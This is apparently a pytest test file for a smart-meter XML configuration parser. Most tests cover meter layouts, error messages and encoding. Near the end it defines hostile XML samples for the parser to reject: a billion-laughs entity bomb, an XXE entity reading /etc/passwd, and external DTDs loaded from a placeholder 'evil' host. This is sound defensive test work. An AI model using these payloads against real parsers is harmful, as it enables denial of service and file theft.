"""XML variants, and the rejection of DTDs and entities."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from tr069_cpe.meters import (
    ConfigurationFileError,
    MeterKind,
    Reading,
    parse_configuration,
)

T1_T2 = (Reading("T1", 53.0, "kWh", None), Reading("T2", 41.0, "kWh", None))


@pytest.mark.parametrize(
    "meter",
    [
        # reading elements with name attribute and text value
        '<meter serial="26" vendor="ACME" type="electricityMeter">'
        '<reading name="T1" unit="kWh">53</reading><reading name="T2">41000 Wh</reading></meter>',
        # readings as attributes, like the flat keys of JSON format (a)
        '<meter serial="26" vendor="ACME" type="electricityMeter" T1="53kWh" T2="41kWh"/>',
        # everything as elements
        "<meter><serial>26</serial><vendor>ACME</vendor><type>electricityMeter</type>"
        "<T1>53 kWh</T1><T2>41 kWh</T2></meter>",
        # a <readings> list of named elements with unit attributes
        '<meter serial="26" vendor="ACME" type="electricityMeter"><readings>'
        '<T1 unit="kWh">53</T1><T2 unit="Wh">41000</T2></readings></meter>',
        # reading records with child elements, identified by OBIS codes
        '<meter serial="26" vendor="ACME" type="OBIS"><values>'
        "<value><obis>1-0:1.8.1</obis><value>53</value><unit>kWh</unit></value>"
        "<value><obis>1-0:1.8.2*255</obis><value>41</value></value></values></meter>",
        # reading records with attributes only, type + units as in format (b)
        '<device serial="26" vendor="ACME" device_type="ELECTRICITY_CONS">'
        '<reading type="T1" units="kWh" value="53"/>'
        '<reading obis="1.8.2" value="41 kWh"/></device>',
        # named element with attributes directly under the meter
        '<meter serial="26" vendor="ACME" type="electricityMeter">'
        '<T1 unit="kWh">53</T1><tariff2 unit="MWh">0.041</tariff2></meter>',
    ],
)
def test_meter_variants(parse_xml, meter) -> None:
    result = parse_xml(f'<?xml version="1.0"?><configuration>{meter}</configuration>')
    (parsed,) = result.meters
    assert parsed.serial == "26"
    assert parsed.vendor == "ACME"
    assert parsed.kind is MeterKind.ELECTRICITY
    assert parsed.readings == T1_T2
    assert result.format == "xml"


@pytest.mark.parametrize(
    "document",
    [
        "<configuration><meters>{m}</meters></configuration>",
        "<configuration><meter_list>{m}</meter_list></configuration>",
        "<meters>{m}</meters>",
        "<items>{m}</items>",
        "<devices>{m}</devices>",
        "<VendorConfigurationFile>{m}</VendorConfigurationFile>",
        '<cfg:configuration xmlns:cfg="urn:example:meters">{m}</cfg:configuration>',
        '<configuration xmlns="urn:example:meters" version="2">{m}</configuration>',
        "{m}",
    ],
)
def test_document_variants(parse_xml, document) -> None:
    meter = '<meter serial="26" type="electricityMeter" T1="53" T2="41"/>'
    result = parse_xml(document.format(m=meter))
    assert [meter.serial for meter in result.meters] == ["26"]
    assert result.meters[0].readings == T1_T2


def test_partial_attribute_and_element(parse_xml) -> None:
    meter = '<meter serial="1" type="waterMeter" warm="1" cold="2"/>'
    assert parse_xml(f'<configuration partial="true">{meter}</configuration>').partial
    assert not parse_xml(f'<configuration partial="false">{meter}</configuration>').partial
    assert not parse_xml(f"<configuration>{meter}</configuration>").partial
    assert parse_xml(f"<configuration><partial>TRUE</partial>{meter}</configuration>").partial
    assert parse_xml(f'<meters partial="1">{meter}</meters>').partial
    with pytest.raises(ConfigurationFileError, match='"maybe" is not true or false'):
        parse_xml(f'<configuration partial="maybe">{meter}</configuration>')
    with pytest.raises(ConfigurationFileError, match="given twice"):
        parse_xml(f'<configuration partial="1"><partial>1</partial>{meter}</configuration>')


def test_explicit_empty_meter_list(parse_xml) -> None:
    assert parse_xml("<configuration><meters/></configuration>").meters == ()
    assert parse_xml('<meters partial="false"></meters>').meters == ()


def test_no_meters_is_an_error(parse_xml) -> None:
    with pytest.raises(ConfigurationFileError, match="no identifiable meter"):
        parse_xml('<configuration partial="false"/>')


def test_location_timestamp_and_name(parse_xml) -> None:
    (meter,) = parse_xml(
        '<configuration timestamp="2024-05-01T10:00:00Z">'
        '<meter serial="987" type="TH sensor">'
        "<name>Living room</name>"
        "<location><lat>49.2</lat><lng>16.6</lng></location>"
        '<reading name="temp">21.5 °C</reading>'
        '<reading name="hum" timestamp="2024-05-01T10:05:00Z">40</reading>'
        "</meter></configuration>"
    ).meters
    assert meter.name == "Living room"
    assert meter.location == (49.2, 16.6)
    assert meter.kind is MeterKind.TEMPERATURE_HUMIDITY
    assert meter.readings == (
        Reading("temperature", 21.5, "°C", datetime(2024, 5, 1, 10, tzinfo=UTC)),
        Reading("humidity", 40.0, "%", datetime(2024, 5, 1, 10, 5, tzinfo=UTC)),
    )


def test_generic_meter_in_xml(parse_xml) -> None:
    (meter,) = parse_xml(
        '<meter serial="g" type="pulses"><volume>12.5 m3</volume>'
        '<reading name="state" text="ok"/><firmware>v1.2</firmware></meter>'
    ).meters
    assert meter.kind is MeterKind.GENERIC
    assert meter.readings == (
        Reading("volume", 12.5, "m3", None),
        Reading("state", "ok", None, None),
    )


def test_cdata_comments_and_whitespace(parse_xml) -> None:
    (meter,) = parse_xml(
        "<?xml version='1.0' encoding='utf-8'?>\n<!-- exported by the ACS -->\n"
        "<configuration>\n  <meter serial=' 26 ' type='electricityMeter'>\n"
        "    <T1><![CDATA[53 kWh]]></T1>\n    <T2>\n      41\n    </T2>\n"
        "  </meter>\n</configuration>\n"
    ).meters
    assert meter.serial == "26"
    assert meter.readings == T1_T2


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ("<configuration><meter serial='1' T1='5'>", "invalid or truncated XML"),
        ("<configuration><meter serial='1' T1='5'/></configuratio>", "mismatched tag"),
        ("<configuration/><configuration/>", "junk after document element"),
        ("<html><body/></html>", "no identifiable meter"),
        ("<configuration><foo/></configuration>", "no identifiable meter"),
        (
            "<configuration><meters><foo/></meters></configuration>",
            "line 1: meters.foo: is a string, expected a meter object",
        ),
        (
            "<configuration>text<meter serial='1' T1='5'/></configuration>",
            "<configuration> mixes text and elements",
        ),
        (
            "<configuration><meter serial='1'>stray<T1>5</T1></meter></configuration>",
            "<meter> mixes text and elements",
        ),
        (
            "<configuration><meter serial='1' type='electricityMeter'><T1>5</T1><T1>6</T1>"
            "</meter></configuration>",
            r"line 1: meter.T1: is a list, expected a number",
        ),
        (
            "<configuration><meter serial='1'><serial>2</serial><T1>5</T1></meter></configuration>",
            r"meter.serial: given twice",
        ),
        (
            "<configuration><meter serial='1' type='electricityMeter'>"
            "<reading name='T1' value='5'>6</reading></meter></configuration>",
            "the value is given twice",
        ),
        (
            "<configuration><meter serial='1' type='electricityMeter'>"
            "<reading name='T1'>5<unit>kWh</unit></reading></meter></configuration>",
            "mixes text and elements",
        ),
        (
            "<configuration><meter serial='1' type='electricityMeter'>"
            "<reading name='T1'><value><x/></value></reading></meter></configuration>",
            r"meter.reading\[0\].value: is an object, expected a number",
        ),
        (
            "<configuration><meter type='electricityMeter' T1='5'/></configuration>",
            "line 1: meter: meter has no serial",
        ),
        (
            "<configuration>\n<meter serial='1' type='electricityMeter' T1='5x'/>\n"
            "</configuration>",
            r'line 2: meter.T1: "5x" is not a number',
        ),
        (
            "<configuration><meter serial='1' T1='5'/><meter serial='1' T1='5'/></configuration>",
            r'meter\[1\]: duplicate serial "1"',
        ),
        (
            "<configuration><meter serial='1' type='electricityMeter'/></configuration>",
            "has no readings",
        ),
        (
            "<configuration serial='5'><meter serial='1' T1='1'/></configuration>",
            "do not tell which kind it is",
        ),
        (
            "<configuration><meters kind='x'><meter serial='1' T1='1'/></meters></configuration>",
            "has no readings",
        ),
        (
            "<meter serial='1' type='electricityMeter'><readings unit='kWh'><T1>1</T1></readings>"
            "</meter>",
            "readings.unit: unknown key that may change what the value means",
        ),
        (
            "<meter serial='1' type='electricityMeter' T1='1'>"
            "<location lat='1'><lat>2</lat><lng>3</lng></location></meter>",
            r"line 1: location.lat: given twice",
        ),
        (
            "<meter serial='1' type='electricityMeter'>"
            "<reading name='T1'><name>T2</name><value>1</value></reading></meter>",
            r"line 1: reading.name: given twice",
        ),
        (
            "<meter serial='1' type='electricityMeter'><T1 name='T2'>1</T1></meter>",
            r'"T1" and "T2" name different readings',
        ),
        (
            "<configuration><meter serial='1' type='electricityMeter'>"
            "<name lang='en'>x</name><T1>1</T1></meter></configuration>",
            r"meter.name: is an object, expected a name",
        ),
    ],
)
def test_bad_xml(parse_xml, document, message) -> None:
    with pytest.raises(ConfigurationFileError, match=message):
        parse_xml(document)


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<configuration><meter serial="1" type="pulses" name="&lol9;" v="1"/></configuration>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE configuration [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<configuration><meter serial="1" type="pulses" secret="&xxe;"/></configuration>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE configuration SYSTEM "http://example.invalid/evil.dtd">
<configuration><meter serial="1" type="pulses" v="1"/></configuration>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE configuration [<!ENTITY % remote SYSTEM "http://example.invalid/x.dtd"> %remote;]>
<configuration><meter serial="1" type="pulses" v="1"/></configuration>
"""

PLAIN_DOCTYPE = """<?xml version="1.0"?>
<!DOCTYPE configuration>
<configuration><meter serial="1" type="pulses" v="1"/></configuration>
"""


@pytest.mark.parametrize(
    "document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, PLAIN_DOCTYPE]
)
def test_doctype_and_entities_rejected(parse_xml, document) -> None:
    with pytest.raises(ConfigurationFileError, match="DOCTYPE is not accepted"):
        parse_xml(document)


def test_undeclared_entity_rejected(parse_xml) -> None:
    with pytest.raises(ConfigurationFileError, match="undefined entity"):
        parse_xml('<configuration><meter serial="&xxe;" T1="1"/></configuration>')


def test_predefined_and_character_entities_are_fine(parse_xml) -> None:
    (meter,) = parse_xml(
        '<configuration><meter serial="A&amp;B" name="&#x4B;itchen &lt;1&gt;" T1="1"/>'
        "</configuration>"
    ).meters
    assert meter.serial == "A&B"
    assert meter.name == "Kitchen <1>"


def test_non_utf8_encoding_declaration_rejected(parse_xml) -> None:
    with pytest.raises(ConfigurationFileError, match='declares encoding "ISO-8859-1"'):
        parse_xml('<?xml version="1.0" encoding="ISO-8859-1"?><meters/>')


def test_latin1_bytes_rejected() -> None:
    with pytest.raises(ConfigurationFileError, match="not UTF-8"):
        parse_configuration('<meter serial="1" name="Küche" T1="1"/>'.encode("latin-1"))


def test_xml_with_bom() -> None:
    result = parse_configuration(b"\xef\xbb\xbf<meters/>")
    assert result.meters == ()
    assert result.format == "xml"


def test_deeply_nested_xml_rejected(parse_xml) -> None:
    document = "<a>" * 40 + "</a>" * 40
    with pytest.raises(ConfigurationFileError, match="nested deeper than 32"):
        parse_xml(document)
    very_deep = "<a>" * 200_000 + "</a>" * 200_000
    with pytest.raises(ConfigurationFileError, match="nested deeper than 32"):
        parse_xml(very_deep)
